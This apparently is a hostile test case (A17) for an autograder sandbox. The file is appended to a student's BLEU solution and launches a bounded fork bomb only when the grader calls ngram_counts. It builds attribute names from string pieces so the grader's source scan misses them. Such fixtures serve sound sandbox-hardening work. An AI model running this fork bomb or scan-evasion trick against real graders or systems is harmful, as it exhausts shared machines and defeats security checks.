# hostile: appended to solutions/bleu.py
# A17: a fork bomb (bounded: each process forks at most 50 times and then sleeps): it must hit the sandbox
# user's process limit, not exhaust the machine.
import json
import os
import sys
import time


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")


def _bomb() -> int:
    forked = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            for _ in range(50):
                try:
                    if os.fork() == 0:
                        break
                except OSError:
                    break
            time.sleep(600)
            os._exit(0)
        forked += 1
    return forked


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps({"forked": _bomb()}))
    return _reference_ngram_counts(tokens, n)
